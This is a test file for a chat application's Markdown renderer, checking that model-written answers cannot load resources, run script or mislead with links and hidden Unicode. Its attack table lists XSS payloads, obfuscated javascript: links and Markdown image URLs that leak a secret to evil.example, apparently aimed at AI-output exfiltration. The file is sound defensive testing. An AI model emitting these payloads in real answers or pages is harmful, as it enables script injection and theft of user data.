// @vitest-environment jsdom
/** What a model may write into an answer, and what must not come of it. */

import { act } from "react";
import { createRoot, type Root } from "react-dom/client";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { Markdown } from "@/features/conversation/markdown";
import { safeHref, targetOf } from "@/lib/markdown-parse";
import { shown } from "@/lib/visible-text";

const page = document.createElement("div");
const LOADS =
  "img,script,iframe,object,embed,video,audio,link,style,svg:not(button svg),math,form,base,meta,source,picture";

let root: Root;

async function show(source: string, open = false): Promise<void> {
  await act(async () => root.render(<Markdown source={source} open={open} />));
}

beforeEach(() => {
  (globalThis as { IS_REACT_ACT_ENVIRONMENT?: boolean }).IS_REACT_ACT_ENVIRONMENT = true;
  root = createRoot(page);
});

afterEach(() => act(async () => root.unmount()));

const ATTACKS: Record<string, string> = {
  "a script": "<script>window.hit = 1</script>",
  "a script in a line": "hello <script src=//evil.example/x.js></script> there",
  "an image with a handler": '<img src=x onerror="window.hit=1">',
  "an image of Markdown": "![secret](https://evil.example/p.png?q=SECRET)",
  "an image by reference": "![x][1]\n\n[1]: https://evil.example/p.png",
  "an image in a link": "[![x](https://evil.example/a.png)](https://evil.example/b)",
  "an image in a table":
    "| a | b |\n|---|---|\n| ![x](https://evil.example/p.png) | <img src=x onerror=alert(1)> |",
  "an image in a heading": "# ![x](https://evil.example/p.png)",
  "a data image": "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
  "a javascript link": "[click](javascript:window.hit=1)",
  "a javascript link in capitals": "[click](JaVaScRiPt:window.hit=1)",
  "a javascript link with entities": "[click](&#106;avascript:window.hit=1)",
  "a javascript link with a tab": "[click](<java\tscript:window.hit=1>)",
  "a javascript link with a control character": "[click](\u0001javascript:window.hit=1)",
  "a javascript link by reference": "[click][1]\n\n[1]: javascript:window.hit=1",
  "a javascript autolink": "<javascript:window.hit=1>",
  "a data link": "[click](data:text/html,<script>alert(1)</script>)",
  "a vbscript link": "[click](vbscript:msgbox)",
  "a file link": "[click](file:///etc/passwd)",
  "a blob link": "[click](blob:https://evil.example/1)",
  "a link without a scheme": "[click](//evil.example/x)",
  "a link into Alma itself": "[click](/api/memories/export)",
  "a frame": '<iframe srcdoc="<script>parent.hit=1</script>"></iframe>',
  "a style": "<style>@import url(https://evil.example/x.css)</style>",
  "a vector image": "<svg onload=window.hit=1><script>1</script></svg>",
  "a form": '<form action="https://evil.example"><input name=p autofocus onfocus=alert(1)></form>',
  "a base": "<base href=https://evil.example/>",
  "a comment that never ends": "<!-- <img src=x onerror=alert(1)>",
  "a diagram": "```mermaid\ngraph TD; A[<img src=x onerror=window.hit=1>]\n```",
  "HTML as code": "```html\n<img src=https://evil.example/p.png onerror=window.hit=1>\n```",
  "HTML in a list": "- one\n- <img src=https://evil.example/p.png>",
  "a quotation with a frame": "> <iframe src=https://evil.example></iframe>",
  "a handler in a title": '[x](https://good.example "a\\" onmouseover=\\"window.hit=1")',
  "a fence with a handler for its language": '```"><img/src=x/onerror=window.hit=1>\nx\n```',
};

describe("Markdown of a model", () => {
  for (const [name, source] of Object.entries(ATTACKS)) {
    for (const open of [false, true]) {
      it(`loads nothing and runs nothing: ${name}${open ? ", while it is written" : ""}`, async () => {
        await show(source, open);
        expect(page.querySelector(LOADS)).toBeNull();
        for (const element of page.querySelectorAll("*")) {
          for (const { name: attribute, value } of element.attributes) {
            expect(attribute.startsWith("on"), `${attribute}=${value}`).toBe(false);
            expect(["src", "srcset", "srcdoc", "action", "formaction", "poster", "background"]).not.toContain(
              attribute,
            );
            if (attribute === "style") expect(value).not.toContain("url(");
          }
        }
        for (const link of page.querySelectorAll("a")) {
          expect(link.href).toMatch(/^(https?:\/\/(?!localhost)|mailto:)/);
          expect(link.rel).toBe("noopener noreferrer nofollow");
          expect(link.target).toBe("_blank");
          expect(link.title).toBe(link.getAttribute("href"));
        }
        expect((globalThis as { hit?: number }).hit).toBeUndefined();
      });
    }
  }

  it("says where a link leads, unless its text is just that", async () => {
    await show(
      "[https://bank.example](https://evil.example/login) <https://good.example/> [m](mailto:a@b.example)",
    );
    expect(page.textContent).toContain("https://bank.example (evil.example)");
    expect(page.textContent).not.toContain("(good.example)");
    expect(page.textContent).toContain("m (a@b.example)");
    await show("[bank](https://bank.example@evil.example/)");
    expect(page.textContent).toContain("(evil.example)");
  });

  it("makes a link of an image, with its address", async () => {
    await show("![a cat](https://evil.example/p.png)");
    expect(page.querySelector("a")?.getAttribute("href")).toBe("https://evil.example/p.png");
    expect(page.textContent).toContain("a cat (evil.example)");
  });

  it("shows what turns the direction of a text, in prose and in code", async () => {
    await show("pay \u202e001$ `a\u2066b`\n\n```js\nif (\u202e x) {}\n```\n\n<b\u202e>");
    expect(page.textContent).not.toMatch(/[\u202a-\u202e\u2066-\u2069]/);
    expect(page.textContent?.match(/⟦U\+202E⟧/g)).toHaveLength(3);
    expect(page.textContent).toContain("⟦U+2066⟧");
  });
});

describe("addresses", () => {
  it("are followed to the web and to mailboxes only", () => {
    for (const bad of [
      "javascript:1",
      "java\nscript:1",
      " javascript:1",
      "data:x",
      "//evil",
      "/api",
      "x",
      "",
      "http:",
      "https://",
    ])
      expect(safeHref(bad)).toBeNull();
    expect(safeHref("https://a.example/x?y#z")).toBe("https://a.example/x?y#z");
    expect(safeHref("mailto:a@b.example")).toBe("mailto:a@b.example");
  });

  it("name their host as the network knows it", () => {
    expect(targetOf("https://аpple.example/")).toBe("xn--pple-43d.example");
    expect(targetOf("nothing")).toBe("");
  });
});

describe("text that deceives", () => {
  it("is written out, and nothing else is changed", () => {
    expect(shown("a\u202eb")).toBe("a⟦U+202E⟧b");
    expect(shown("x\u{e0068}\u{e0069}")).toBe("x⟦U+E0068 and 1 more⟧");
    for (const fine of [
      "سلام \u200f!",
      "👨‍👩‍👧",
      "🏴\u{e0067}\u{e0062}\u{e0073}\u{e0063}\u{e0074}\u{e007f}",
      "plain",
    ])
      expect(shown(fine)).toBe(fine);
  });
});
